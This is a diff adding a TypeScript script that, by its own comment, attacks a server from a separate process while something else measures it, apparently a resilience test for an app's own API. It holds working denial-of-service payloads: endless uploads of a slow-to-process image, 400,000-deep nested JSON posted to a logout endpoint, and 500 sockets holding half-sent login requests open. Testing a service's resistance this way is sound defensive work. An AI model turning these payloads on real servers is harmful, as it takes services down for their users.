@@ -1,0 +1,53 @@
+/** Attacks a server in a process of its own, so that what measures beside it is not slowed by it. Says « begun » once under way. */
+import { once } from 'node:events'
+import { Agent, request } from 'node:http'
+import { connect } from 'node:net'
+import * as z from 'zod/mini'
+import { slowPicture } from './slow-picture.ts'
+
+const Orders = z.object({ kind: z.enum(['pictures', 'arrays', 'halves']), url: z.string(), cookie: z.string() })
+const { kind, url, cookie } = z.parse(Orders, JSON.parse(process.argv[2] ?? '{}'))
+
+const agent = new Agent({ keepAlive: true })
+const headers = { cookie, 'sec-fetch-site': 'same-origin' }
+
+/** Sends one call, and waits for its end, whatever it is. */
+async function send(path: string, body: string, type: string): Promise<void> {
+  const call = request(url + path, {
+    method: 'POST',
+    agent,
+    headers: { ...headers, 'content-type': type, 'content-length': Buffer.byteLength(body) },
+  })
+  const over = new Promise<void>((resolve) => {
+    call.on('response', (answer) => answer.resume().on('close', resolve))
+    call.on('error', () => resolve())
+  })
+  call.end(body)
+  await over
+}
+
+async function again(attack: () => Promise<void>): Promise<never> {
+  for (;;) await attack()
+}
+
+if (kind === 'pictures')
+  for (let lane = 0; lane < 4; lane += 1)
+    void again(() => send('/api/me/photo', slowPicture, 'application/octet-stream'))
+if (kind === 'arrays') {
+  const body = '['.repeat(400_000) + ']'.repeat(400_000)
+  void again(() => send('/api/auth/logout', body, 'application/json'))
+}
+if (kind === 'halves') {
+  const { hostname, port } = new URL(url)
+  const open = async (): Promise<void> => {
+    const socket = connect(Number(port), hostname)
+    socket.on('error', () => {})
+    socket.write(
+      'POST /api/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 500\r\n\r\n{"email":',
+    )
+    socket.resume()
+    await once(socket, 'close')
+  }
+  for (let lane = 0; lane < 500; lane += 1) void again(open)
+}
+setTimeout(() => process.stdout.write('begun\n'), 1500)
